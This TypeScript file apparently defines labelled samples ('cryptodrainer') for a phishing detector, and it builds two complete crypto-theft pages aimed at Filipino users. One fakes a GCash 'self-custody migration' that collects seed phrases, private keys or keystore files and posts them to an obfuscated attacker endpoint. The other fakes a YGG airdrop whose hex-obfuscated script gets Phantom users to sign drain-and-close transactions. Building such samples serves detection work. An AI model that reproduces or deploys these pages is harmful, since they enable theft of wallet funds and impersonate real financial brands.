import { type Entry } from '../entry.js';
import { page, xorB64, xorDecoderJs, b64, hexOf } from '../parts/yw-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  (() => {
    const cfg = xorB64(JSON.stringify({ u: 'https://gcrypto-migrate.ph-selfcustody.net/api/phrase', back: 'https://www.gcash.com/gcrypto' }), 'gcrypt0');
    return {
      id: 'yw-drain-gcrypto-selfcustody-migration',
      label: 'cryptodrainer',
      kind: 'seed-phrase-phish',
      url: 'https://gcrypto-migrate.ph-selfcustody.net/migrate',
      body: page({
        title: 'GCrypto Self-Custody Migration',
        lang: 'fil',
        css: `body{font-family:Arial,sans-serif;background:#eef4ff;color:#0b1f44}.c{max-width:460px;margin:30px auto;background:#fff;border-radius:16px;padding:24px}.tb{display:flex;gap:4px;background:#eef4ff;border-radius:10px;padding:4px;margin:14px 0}.tb button{flex:1;border:0;background:none;padding:9px;border-radius:8px;font-weight:600;color:#5a6b88}.tb button.on{background:#fff;color:#007cff;box-shadow:0 1px 3px rgba(0,0,0,.1)}textarea{width:100%;height:110px;border:1px solid #cfdcf2;border-radius:10px;padding:10px;font-size:14px}.b{width:100%;padding:14px;border:0;border-radius:26px;background:#007cff;color:#fff;font-weight:700;margin-top:12px}.al{font-size:13px;background:#fff8e1;border-radius:10px;padding:10px}`,
        body: `<div class="c"><h2>GCrypto → Self-Custody Wallet</h2><div class="al">Simula Disyembre 1, ililipat na ang lahat ng GCrypto balances sa self-custody wallets alinsunod sa bagong BSP VASP rules. I-link ang iyong personal wallet para hindi ma-freeze ang iyong BTC, ETH at USDT.</div>
<div class="tb"><button class="on" data-t="phrase">Recovery phrase</button><button data-t="key">Private key</button><button data-t="json">Keystore JSON</button></div>
<textarea id="v" placeholder="Ilagay ang 12/24-word recovery phrase ng iyong MetaMask, Trust Wallet o Coins.ph wallet"></textarea>
<button class="b" id="go">I-link ang wallet</button><p style="font-size:11px;color:#7a879c">Powered by PDAX × GCash. Encrypted end-to-end.</p></div>
<script>
${xorDecoderJs('dx')}
var K=JSON.parse(dx('${cfg}','gcrypt0')),T='phrase';
document.querySelectorAll('.tb button').forEach(function(b){b.onclick=function(){document.querySelectorAll('.tb button').forEach(function(x){x.classList.remove('on');});b.classList.add('on');T=b.dataset.t;document.getElementById('v').placeholder=T==='key'?'Private key (64 characters)':T==='json'?'Paste keystore JSON and password':'Ilagay ang 12/24-word recovery phrase';};});
document.getElementById('go').onclick=function(){var v=document.getElementById('v').value.trim();if(v.length<20)return;fetch(K.u,{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'t='+T+'&v='+encodeURIComponent(v)}).finally(function(){location.href=K.back;});};
</script>`,
      }),
      routes: { 'gcrypto-migrate.ph-selfcustody.net/api/phrase': jsonRoute({ ok: true }) },
    } satisfies Entry;
  })(),
  (() => {
    const host = 'ygg-pilipinas-airdrop.app';
    const attacker = 'Dr4inW4llet9xQ7mKp2LzT8vB3nY6cH1jR5sE0fGuAi';
    return {
      id: 'yw-drain-solana-ygg-airdrop-phantom',
      label: 'cryptodrainer',
      kind: 'solana-transaction-drainer',
      url: `https://${host}/`,
      body: page({
        title: 'YGG Pilipinas — Community Airdrop',
        css: `body{font-family:Arial,sans-serif;background:#0d0d12;color:#fff;text-align:center}.w{max-width:520px;margin:50px auto;padding:24px;border-radius:20px;background:#17171f;border:1px solid #2a2a36}.w h1{background:linear-gradient(90deg,#f9d423,#ff4e50);-webkit-background-clip:text;color:transparent}.b{padding:14px 36px;border:0;border-radius:30px;background:#ab9ff2;color:#1c1c28;font-weight:800;font-size:16px;cursor:pointer}.s{font-size:13px;color:#9a9ab0;margin-top:12px}`,
        body: `<div class="w"><h1>YGG Pilipinas Airdrop</h1><p>Salamat, scholars! 5,000,000 $YGG reserved for Filipino play-to-earn players. Connect your Phantom or Solflare wallet to claim your share.</p><button class="b" id="c">Connect Phantom</button><div class="s" id="s">Claim window: 48 hours</div></div>
<script src="/static/claim.bundle.js" defer></script>`,
      }),
      routes: {
        [`${host}/static/claim.bundle.js`]: jsRoute(
          `(function(){var _h='${hexOf(attacker)}',_d='';for(var i=0;i<_h.length;i+=2)_d+=String.fromCharCode(parseInt(_h.substr(i,2),16));var s=document.getElementById('s');document.getElementById('c').onclick=async function(){var w=window.phantom&&window.phantom.solana||window.solana||window.solflare;if(!w){s.textContent='Phantom not found. Open in the Phantom app browser.';return;}try{var r=await w.connect();var pk=r.publicKey.toString();s.textContent='Checking allocation for '+pk.slice(0,4)+'…'+pk.slice(-4);var j=await fetch('/api/build',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,dest:_d})}).then(function(x){return x.json()});var txs=j.txs.map(function(b){return Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})});s.textContent='Approve the claim transaction in Phantom';var signed=await w.signAllTransactions(txs.map(function(t){return window.solanaWeb3?window.solanaWeb3.VersionedTransaction.deserialize(t):t}));await fetch('/api/submit',{method:'POST',body:JSON.stringify({owner:pk,signed:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize?t.serialize():t))})})});s.textContent='✅ Claimed! YGG will arrive shortly.';}catch(e){s.textContent='Claim failed: '+(e.message||e);}};})();`,
        ),
        [`${host}/api/build`]: jsonRoute({ txs: [b64('\x01' + '\x00'.repeat(64) + 'transfer-all-spl'), b64('\x01' + '\x00'.repeat(64) + 'close-accounts')] }),
        [`${host}/api/submit`]: jsonRoute({ ok: true }),
      },
    } satisfies Entry;
  })(),
];
